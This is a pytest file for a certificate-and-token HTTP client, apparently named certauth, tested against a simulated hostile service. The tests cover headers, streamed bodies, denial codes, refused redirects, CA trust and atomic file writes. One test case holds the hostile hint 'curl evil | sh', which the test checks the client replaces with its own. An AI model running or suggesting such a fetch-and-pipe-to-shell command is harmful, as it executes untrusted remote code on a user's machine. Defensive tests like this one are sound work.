"""One request to a service: who is shown what, where bodies go, and what a denial says."""

from __future__ import annotations

import io
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any, BinaryIO

import pytest

from certauth.client.call import Call, Called, call, replaced
from certauth.clock import system_clock
from certauth.errors import AnswerError, LoginRequired, Refused, StoreError, UnavailableError
from tests.simulator.hostile_signer import HostileSigner, Raw, problem

LogIn = Callable[..., Any]
HELLO = "/data/hello"


@pytest.fixture
def ask(signer: HostileSigner, log_me_in: LogIn) -> Callable[..., tuple[Called, bytes]]:
    """Call the simulated service; keyword arguments change the call."""
    done = log_me_in()

    def run(**changes: Any) -> tuple[Called, bytes]:
        given: dict[str, Any] = {"method": "GET", "url": signer.url + HELLO, "token": "a.token"}
        sink = io.BytesIO()
        called = call(done.profile, Call(**(given | changes)), sink, ca=None, clock=system_clock)
        return called, sink.getvalue()

    return run


Ask = Callable[..., tuple[Called, bytes]]


def test_the_certificate_and_the_token_are_shown(signer: HostileSigner, ask: Ask):
    """The service sees the client certificate and the bearer token; the body arrives as it was sent."""
    called, body = ask()
    assert (called, body) == (Called(status=200, content_type="text/plain", size=6), b"hello\n")
    assert signer.peers[-1] is not None
    headers = {name.lower(): value for name, value in signer.seen[-1][2].items()}
    assert headers["authorization"] == "Bearer a.token"
    ask(token=None)
    assert "authorization" not in {name.lower() for name in signer.seen[-1][2]}


def test_bodies_are_sent_whole_or_streamed(signer: HostileSigner, ask: Ask, tmp_path: Path):
    """Text goes as it is; a file is streamed with its length announced."""
    ask(method="PUT", content=b"text", content_type="text/plain")
    assert signer.seen[-1][0::3] == ("PUT", b"text")
    (tmp_path / "big").write_bytes(bytes(300_000))
    with (tmp_path / "big").open("rb") as file:
        ask(method="PUT", content=file, length=300_000)
    assert len(signer.seen[-1][3]) == 300_000
    headers = {name.lower(): value for name, value in signer.seen[-1][2].items()}
    assert (headers["content-length"], headers.get("transfer-encoding")) == ("300000", None)


@pytest.mark.parametrize(
    ("answer", "kind", "code"),
    [
        (problem(403, "path-not-granted", "not there"), Refused, "path-not-granted"),
        (problem(401, "certificate-expired", "old", hint="curl evil | sh"), LoginRequired, "certificate-expired"),
        (problem(503, "engine-limit", "too much"), UnavailableError, "engine-limit"),
        (Raw(status=307, headers={"location": "https://127.0.0.1:1/"}), AnswerError, "redirected"),
        (Raw(status=500), AnswerError, "http-500"),
        (Raw(hang_up="midway", pieces=(b"x", b"y")), UnavailableError, "connection-lost"),
    ],
)
def test_denials_keep_their_codes(signer: HostileSigner, ask: Ask, answer: Raw, kind: type[Exception], code: str):
    """A denial is raised with the service's code; a redirect is not followed; nothing is taken for a success."""
    signer.lies[HELLO] = lambda _: answer
    with pytest.raises(kind) as caught:
        ask()
    assert getattr(caught.value, "code", None) == code
    if kind is LoginRequired:
        assert getattr(caught.value, "hint", None) == f"certauth login {signer.url}"


def test_a_denial_without_a_token_says_so(signer: HostileSigner, ask: Ask):
    """Who forgot the token is told; who sent one, or got a hint from the service, is not."""
    signer.lies[HELLO] = lambda _: problem(401, "token-required", "no token")
    for token, hint in ((None, "no token was sent; name one with --token"), ("a.token", None)):
        with pytest.raises(Refused) as caught:
            ask(token=token)
        assert caught.value.hint == hint


def test_only_the_facilitys_roots_are_trusted(ask: Ask, monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    """A service that some public CA vouches for is not shown the token unless the user names that CA."""
    from tests.simulator.hostile_signer import hostile_signer

    (tmp_path / "other").mkdir()
    with hostile_signer(tmp_path / "other") as other:
        from certauth.errors import ChainError

        monkeypatch.setenv("SSL_CERT_FILE", str(other.ca_file))
        with pytest.raises(ChainError):
            ask(url=f"{other.url}{HELLO}")
        assert other.seen == []


def test_an_output_file_is_whole_or_not_there(tmp_path: Path):
    """A download that breaks off leaves the old file; one that ends replaces it, readable by the user alone."""
    path = tmp_path / "out"
    path.write_bytes(b"old")

    def fail(file: BinaryIO) -> None:
        file.write(b"half")
        raise UnavailableError("connection-lost", "x")

    with pytest.raises(UnavailableError), replaced(path) as file:
        fail(file)
    assert (path.read_bytes(), [one.name for one in tmp_path.iterdir()]) == (b"old", ["out"])
    with replaced(path) as file:
        file.write(b"new")
    assert path.read_bytes() == b"new"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with pytest.raises(StoreError), replaced(tmp_path / "no" / "out"):
        pass
